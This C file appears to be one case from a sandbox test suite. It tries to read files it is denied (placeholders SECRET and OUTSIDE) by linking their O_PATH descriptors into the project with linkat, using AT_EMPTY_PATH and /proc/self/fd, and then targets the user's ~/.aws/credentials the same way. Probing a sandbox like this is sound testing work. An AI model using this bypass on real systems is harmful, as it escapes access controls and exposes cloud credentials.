// technique: link an O_PATH descriptor of a denied file into the project (linkat AT_EMPTY_PATH and /proc/self/fd + AT_SYMLINK_FOLLOW), then read the link
// fast: yes
#include "adv.h"
int main(void) {
	char p[1024];
	const char *targets[] = {"SECRET", "OUTSIDE"};
	for (int i = 0; i < 2; i++) {
		int fd = open(adv(targets[i]), O_PATH);
		if (fd < 0) { printf("O_PATH %s: %s\n", targets[i], strerror(errno)); continue; }
		char name[32];
		snprintf(name, sizeof name, "l-empty-%d", i);
		printf("linkat AT_EMPTY_PATH: %d %s\n", linkat(fd, "", AT_FDCWD, name, AT_EMPTY_PATH), strerror(errno));
		try_open("read l-empty", AT_FDCWD, name, O_RDONLY);
		snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
		snprintf(name, sizeof name, "l-follow-%d", i);
		printf("linkat follow: %d %s\n", linkat(AT_FDCWD, p, AT_FDCWD, name, AT_SYMLINK_FOLLOW), strerror(errno));
		try_open("read l-follow", AT_FDCWD, name, O_RDONLY);
	}
	snprintf(p, sizeof p, "%s/.aws/credentials", adv("HOME"));
	int fd = open(p, O_PATH);
	if (fd >= 0) {
		snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
		linkat(AT_FDCWD, p, AT_FDCWD, "aws", AT_SYMLINK_FOLLOW);
		linkat(fd, "", AT_FDCWD, "aws2", AT_EMPTY_PATH);
		try_open("read aws", AT_FDCWD, "aws", O_RDONLY);
		try_open("read aws2", AT_FDCWD, "aws2", O_RDONLY);
	}
	return 0;
}
